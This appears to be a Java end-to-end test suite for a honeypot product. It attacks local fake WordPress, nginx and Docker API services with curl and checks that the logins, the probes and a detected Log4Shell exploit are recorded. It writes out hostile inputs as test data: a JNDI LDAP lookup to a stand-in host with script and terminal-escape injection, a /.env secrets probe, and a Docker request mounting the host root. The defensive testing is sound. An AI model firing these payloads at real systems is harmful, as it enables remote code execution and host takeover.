package io.honeybee.app.endtoend.pots;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.app.endtoend.PotsOnManager;
import io.honeybee.app.endtoend.PotsOnManager.Fleet;
import io.honeybee.app.endtoend.PotsOnManager.Installed;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/** Web servers and a Docker engine, installed by the manager and attacked with curl. */
@ExtendWith(PotsOnManager.class)
class WebPotsEndToEndTest {

  @Test
  void httpRequestsLoginsAndExploitsAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("http", Map.of("personality", "wordpress", "login", "any"));
    String url = "http://127.0.0.1:" + pot.port();
    String answer =
        Fleet.run("", "curl", "-si", "-d", "log=admin&pwd=hunter2", url + "/wp-login.php");
    assertThat(answer).startsWith("HTTP/1.1 302 Found").contains("wordpress_logged_in_");
    Fleet.run("", "curl", "-s", "-A", "${jndi:ldap://192.0.2.1/<script>\u001b[31m}", url + "/");

    JsonNode login = fleet.await(pot, "http.login.success", data -> true).path("data");
    assertThat(login.path("username").asString()).isEqualTo("admin");
    assertThat(login.path("password").asString()).isEqualTo("hunter2");
    JsonNode exploit = fleet.await(pot, "http.request", data -> data.has("exploit")).path("data");
    assertThat(exploit.path("cve").toString()).isEqualTo("[\"CVE-2021-44228\"]");
    assertThat(exploit.path("threat_technique_id").toString()).isEqualTo("[\"T1190\"]");
    assertThat(exploit.path("user_agent").asString()).endsWith("<script>\u001b[31m}");
    fleet.await(pot, "http.session.closed", data -> true);
  }

  @Test
  void httpsClientsAreOnTheManagerWithTheirFingerprints(Fleet fleet) throws Exception {
    Installed pot = fleet.install("https", Map.of("personality", "nginx"));
    String answer = Fleet.run("", "curl", "-sik", "https://127.0.0.1:" + pot.port() + "/.env");
    assertThat(answer).startsWith("HTTP/1.1 404 Not Found").contains("nginx");

    JsonNode tls = fleet.await(pot, "https.client.tls", data -> true).path("data");
    assertThat(tls.path("ja4").asString()).startsWith("t13i");
    assertThat(tls.path("ja3").asString()).hasSize(32);
    fleet.await(pot, "https.request", data -> data.path("url").asString().equals("/.env"));
  }

  @Test
  void aContainerThatWasAskedForIsOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("docker-api", Map.of());
    String answer =
        Fleet.run(
            "",
            "curl",
            "-s",
            "-H",
            "Content-Type: application/json",
            "-d",
            "{\"Image\":\"alpine\",\"Cmd\":[\"id\"],\"HostConfig\":{\"Binds\":[\"/:/mnt\"]}}",
            "http://127.0.0.1:" + pot.port() + "/containers/create");
    assertThat(answer).startsWith("{\"Id\":\"");

    JsonNode made = fleet.await(pot, "docker-api.container.create", data -> true).path("data");
    assertThat(made.path("binds").toString()).isEqualTo("[\"/:/mnt\"]");
    assertThat(made.path("threat_technique_id").toString()).isEqualTo("[\"T1610\"]");
  }
}
